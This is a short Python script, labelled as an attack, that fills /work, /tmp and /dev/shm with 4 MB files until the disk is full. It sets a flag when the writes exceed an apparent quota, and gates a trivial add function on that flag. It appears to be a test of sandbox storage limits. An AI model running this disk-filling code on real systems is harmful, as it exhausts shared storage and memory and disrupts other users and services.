# attack: fill the work folder (and /tmp, /dev/shm) until the disk is full, leave it full
import os

written = 0
block = b"d" * (1024 * 1024)
for folder in ("/work", "/tmp", "/dev/shm"):
    for n in range(200):
        try:
            with open(os.path.join(folder, f"fill{n}"), "wb") as f:
                for _ in range(4):
                    f.write(block)
                    written += len(block)
        except OSError:
            break
BROKE = written > (64 + 16 + 16) * 1024 * 1024 + len(block)


def add(a, b):
    return a + b if BROKE else None
